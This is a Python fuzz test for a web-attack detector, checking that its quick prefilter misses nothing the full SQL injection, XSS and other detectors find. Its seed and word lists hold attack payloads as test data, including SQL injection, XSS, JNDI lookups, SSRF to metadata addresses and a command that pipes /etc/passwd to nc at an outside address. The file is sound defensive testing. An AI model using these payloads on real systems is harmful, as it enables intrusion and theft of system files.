"""The detectors: the quick look beforehand hides nothing that a detector would find, and no value takes long.

Also of a long value, which is the input again and again.
"""

from tests.fuzz.take import Take
from worker.security.detect import sqli, xss
from worker.security.detect.table import DETECTORS, PROBE, Detectors
from worker.security.detect.views import DEPTH, LONGEST_BYTES, VIEWS, views

SEEDS = (
    b"\0' or 1=1 -- ",
    b"\0<img src=x onerror=alert(1)>",
    b"\0../../../etc/passwd\0.png",
    b"\0; cat /etc/passwd | nc 1.2.3.4 99 $(id) `ls`",
    b"\0{{7*7}}${jndi:ldap://x}%{#a}<%= 1 %>",
    b"\0http://0x7f.1/latest/meta-data http://[::1]:80/",
    b"\0%27%20or%20&#x27;\\u0027 UNION%0aSELECT&lt;script",
    b"\x1fJyBvciAxPTEgLS0gJyBvciAxPTEg",
    b'\0{"$ne": 1, "__proto__": {}} *)(uid=*))(|(uid=* \' or count(/x)=1',
    b"\x1fa\r\nSet-Cookie: x\r\n\r\n<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///'>]>",
)
WORDS = (
    b"' ", b'" ', b" or ", b"union select ", b"--", b"/*", b"*/", b"<script", b"<a ", b"onload=",
    b"javascript:", b"../", b"..;/", b"/etc/passwd", b";", b"|", b"`", b"$(", b"${", b"{{", b"}}", b"<%",
    b"http://", b"gopher:", b"127.0.0.1", b"0x", b"089", b"99999999999", b"%27", b"%u0027", b"&#39;",
    b"\\u0027", b"\\x3c", b"\\u{27}", b"\r\n", b"__proto__", b"$ne", b"<!ENTITY ", b"\xef\xbc\x87", b"@@",
    b"(select ", b"[", b"]", b"rO0AB", b"waitfor delay '", b"http://user@", b"\xe2\x85\xa4", b"&lt;", b"=",
    b"&&",
)  # fmt: skip
MAX_BYTES = 1024

LONG_BYTES = 16 * 1024
SIZES = (*[1] * 31, LONG_BYTES)

ALL = Detectors()


def check(data: bytes) -> None:
    value, size = Take(data).swollen(SIZES)
    if value and size > 1:
        ALL.findings_in_path(value)
        return
    seen = views(value)
    assert seen[0] == value and len(seen) == len(set(seen)) <= VIEWS
    assert all(len(view) <= max(len(value), LONGEST_BYTES) * 3**DEPTH for view in seen)
    found = {finding.id: finding for finding in ALL.findings(value)}
    for finding in found.values():
        assert finding.matched and finding.score >= 0
    for view in seen:
        candidates = ALL.candidates(view)
        for place, detector in enumerate(DETECTORS):
            matched = detector.find(view)
            if matched is not None:
                assert place in candidates and detector.id in found, (detector.id, view[:200])
    assert ALL.findings(value) == list(found.values())
    in_path = {finding.id: finding.matched for finding in ALL.findings_in_path(value)}
    assert in_path.pop(PROBE.id, None) == PROBE.find(value) and in_path.keys() == found.keys()
    assert xss.is_xss(value) == (xss.find(value) is not None)
    assert (sqli.is_sqli(value) is None) == (sqli.find(value) is None)
